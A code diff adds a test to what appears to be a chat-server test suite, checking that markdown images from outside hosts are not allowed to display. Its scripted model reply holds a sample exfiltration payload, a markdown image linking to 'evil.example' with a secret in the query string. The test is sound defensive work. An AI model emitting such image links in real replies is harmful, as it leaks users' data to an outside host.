@@ -100,6 +100,14 @@ def test_two_turns_in_one_thread_have_items_of_their_own(
     assert "__fake_id__" not in json.dumps(items)
 
 
+def test_images_of_other_hosts_are_not_to_be_shown(client: httpx.Client, model: ScriptedModelServer) -> None:
+    model.script(Reply("![secret](https://evil.example/?q=secret)"))
+    events = ask(client, "Show me")
+    stored = call(client, "threads.get_by_id", thread_id=thread_of(events))
+    assert events[0]["thread"]["allowed_image_domains"] == []
+    assert stored["allowed_image_domains"] == []
+
+
 def test_times_are_utc(client: httpx.Client, model: ScriptedModelServer) -> None:
     model.script(Reply("Yes."))
     events = ask(client, "Is it?")
